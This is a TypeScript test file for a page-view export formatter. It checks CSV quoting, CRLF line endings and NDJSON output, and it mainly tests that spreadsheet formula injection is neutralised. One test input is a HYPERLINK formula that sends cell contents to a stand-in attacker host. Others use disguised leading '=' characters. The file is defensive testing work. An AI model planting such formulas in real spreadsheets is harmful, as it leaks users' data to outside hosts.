import fc from 'fast-check'
import { expect, test } from 'vitest'
import { createFormat } from '../../../src/page-views/format.ts'

const WEEK = { fromMs: Date.parse('2026-11-16'), toMs: Date.parse('2026-11-23') }
const DATES = '2026-11-16,2026-11-23'

function row(path: string, human = 1, ai = 0) {
  return { path, human, ai, total: human + ai }
}

function writeCsv(...paths: string[]): string {
  const { head, formatRow } = createFormat('.csv', WEEK)
  return head + paths.map((path) => formatRow(row(path))).join('')
}

test('CSV: a header and lines that end in CRLF, each with its period; whole days are dates', () => {
  expect(writeCsv('/a', '/b')).toBe(`dateFrom,dateTo,path,human,ai,total\r\n${DATES},/a,1,0,1\r\n${DATES},/b,1,0,1\r\n`)
  const { formatRow } = createFormat('.csv', { fromMs: undefined, toMs: WEEK.toMs + 500 })
  expect(formatRow(row('/a', 2, 3))).toBe(',2026-11-23T00:00:00.500Z,/a,2,3,5\r\n')
})

test('NDJSON: an object per line, without unknown fields of a row', () => {
  const { head, formatRow } = createFormat('.ndjson', WEEK)
  const odd = { ...row('/"a\\\n\ud83d', 1, 2), change: '=1+1' }
  const dates = { dateFrom: '2026-11-16', dateTo: '2026-11-23' }
  expect(head + formatRow(odd)).toBe(`${JSON.stringify({ ...dates, ...row('/"a\\\n\ud83d', 1, 2) })}\n`)
  expect(createFormat('.csv', WEEK).formatRow({ ...row('/a'), ...{ change: 1 } })).toBe(`${DATES},/a,1,0,1\r\n`)
})

test.each([
  ['/a,b', '"/a,b"'],
  ['/say "hi"', '"/say ""hi"""'],
  ['/a\nb', '"/a\nb"'],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['\t=1', `"'\t'=1"`],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['＝1', "'＝1"],
  ['/a;=1', `"/a;'=1"`],
  ['/a\t =1', `"/a\t '=1"`],
  ['/a\n@b=1', `"/a\n'@b=1"`],
])('CSV: the path %j is written as %j', (path, cell) => {
  expect(writeCsv(path)).toContain(`\r\n${DATES},${cell},1,0,1\r\n`)
})

test('CSV: any path is read back as one cell that no spreadsheet runs, however it splits cells', () => {
  const anyText = fc.string({ unit: fc.nat(0x10ffff).map((code) => String.fromCodePoint(code)) })
  const tricky = fc.string({ unit: fc.constantFrom(...'/a=+-@,"\'; \r\n\t＝＋－＠') })
  fc.assert(
    fc.property(fc.oneof(anyText, tricky), (path) => {
      const text = writeCsv(path)
      const [, record = [], ...rest] = splitCells(text, ',')
      const [from, to, cell = '', ...views] = record
      expect([from, to, ...views, rest]).toEqual([...DATES.split(','), '1', '0', '1', [['']]])
      expect(cell).toMatch(/^(?:[^=+\-@\t\r\n＝＋－＠]|$)/u)
      expect(cell.replaceAll("'", '')).toBe(path.replaceAll("'", ''))
      for (const other of [';', '\t'].flatMap((separator) => splitCells(text, separator).flat()))
        expect(other).toMatch(/^(?!\s*[=+@])/u)
    }),
    { numRuns: 500 },
  )
})

/** As spreadsheets do: quotes count only at a cell's start, and text after the closing quote is kept. */
function splitCells(text: string, separator: string): string[][] {
  const lines: string[][] = [['']]
  const token = /(?<=^|[\r\n]|SEPARATOR)"((?:[^"]|"")*)"|SEPARATOR|\r\n|\r|\n|[\s\S]/.source
  const tokens = new RegExp(token.replaceAll('SEPARATOR', separator), 'g')
  for (const [all, quoted] of text.matchAll(tokens)) {
    const line = lines.at(-1) ?? []
    if (all === separator) line.push('')
    else if (/^[\r\n]+$/.test(all)) lines.push([''])
    else line[line.length - 1] += quoted?.replaceAll('""', '"') ?? all
  }
  return lines
}
